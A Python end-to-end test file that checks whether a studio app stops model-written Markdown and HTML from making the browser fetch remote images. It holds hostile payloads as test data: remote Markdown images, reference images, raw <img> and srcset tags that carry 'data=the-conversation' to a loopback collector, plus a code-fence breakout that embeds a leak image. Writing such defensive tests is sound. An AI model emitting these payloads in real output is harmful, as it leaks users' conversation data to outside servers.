"""What a model writes cannot make the reader's browser fetch a URL (security issue, hole 3).

A scripted model (real loopback server, litellm's HTTP path) replies with a remote image in Markdown, a
reference-style image and a raw ``<img>`` tag, all pointing at a "collector" server on loopback that
records every request. The run is watched live in the Playground, replayed, and its HTML and Markdown
exports are opened in the same real headless Chromium: the collector must record nothing. A control
page first proves that the collector does record a plain ``<img>`` fetch, so the test can fail.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from components.llm.scripted import ScriptedLLMServer, say
from storage import open_database
from studio.runs.export import run_html, run_markdown
from tests.e2e.test_run_flow import seed_team, start_run, wait_text
from tests.support.studio import browser_page, studio_server, wait_until_idle


class Collector:
    """An HTTP server on loopback that answers 200 and records the path of every request."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                collector.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


@pytest.fixture
def collector() -> Iterator[Collector]:
    server = Collector()
    yield server
    server.httpd.shutdown()


@pytest.fixture
def llm() -> Iterator[ScriptedLLMServer]:
    with ScriptedLLMServer() as server:
        yield server


def hostile_reply(url: str) -> str:
    return (
        f"Here is the chart ![chart]({url}/inline?data=the-conversation) and ![by reference][r].\n\n"
        f"[r]: {url}/reference\n\n"
        f'<img src="{url}/raw-html"> and <picture><source srcset="{url}/srcset"></picture>\n\n'
        f"A drawn pixel stays: ![pixel](data:image/gif;base64,R0lGODlhAQABAAAAACw=)"
    )


def test_remote_images_are_links_on_every_page_and_export(tmp_path, llm, collector) -> None:
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    control = tmp_path / "control.html"
    control.write_text(f'<img src="{collector.url}/control">')
    with studio_server(data_dir) as url, browser_page() as page:
        page.goto(control.as_uri())
        page.wait_for_load_state("networkidle")
        assert collector.paths == ["/control"], "the collector must see a real image fetch"
        collector.paths.clear()

        team = seed_team(data_dir, llm, "Hostile", "hostile")
        llm.script("hostile", [say(hostile_reply(collector.url)), say("TERMINATE")])
        run_id = start_run(page, url, team, "Show me a chart.")
        wait_text(page, "Conversation finished")
        link = page.get_by_role("link", name="chart")
        assert link.get_attribute("href").startswith(f"{collector.url}/inline")  # a plain link remains
        page.goto(f"{url}/replay?run={run_id}")
        wait_until_idle(page)
        page.get_by_role("button", name="End").click()  # Replay opens at the start: draw the whole run
        wait_text(page, "Conversation finished")
        page.goto(f"{url}/history?run={run_id}")
        wait_until_idle(page)
        page.wait_for_timeout(1000)

        db = open_database(f"sqlite:///{data_dir / 'roundtable.db'}")
        html_file, md_file = tmp_path / "run.html", tmp_path / "run.md"
        html_file.write_text(run_html(db, run_id, data_dir))
        markdown = run_markdown(db, run_id, data_dir)
        md_file.write_text(markdown)
        page.goto(html_file.as_uri())
        page.wait_for_load_state("networkidle")
        db.close()

    assert collector.paths == []
    # The Markdown export: no remote image syntax and no raw HTML outside code, the data: image kept.
    assert not re.search(r"!\[[^\]]*\]\(http", markdown) and "![by reference]" not in markdown
    assert "<img" not in markdown and "&lt;img" in markdown
    assert "![pixel](data:image/gif;base64," in markdown
    assert f"[chart]({collector.url}/inline?data=the-conversation)" in markdown


def test_markdown_export_fences_cannot_be_closed_by_code(tmp_path) -> None:
    from components.events import CodeFinished, CodeStarted
    from storage.eventlog import append_events
    from storage.runs import create_run, set_run_status
    from tests.studio_runs.conftest import coder_team

    db = open_database(f"sqlite:///{tmp_path / 'x.db'}")
    run_id = create_run(db, coder_team("http://127.0.0.1:9/v1"), "t")
    breakout = "print(1)\n```\n![leak](http://127.0.0.1:9/x)\n```"
    append_events(db, run_id, [
        CodeStarted(agent="executor", exec_id="e1", language="python", code=breakout, executor="local"),
        CodeFinished(agent="executor", exec_id="e1", language="python", exit_code=0, output=breakout,
                     duration_s=0.1, work_dir=""),
    ])
    set_run_status(db, run_id, "completed")
    markdown = run_markdown(db, run_id, tmp_path)
    assert "````python\n" + breakout + "\n````" in markdown  # a longer fence: the code stays code
    db.close()


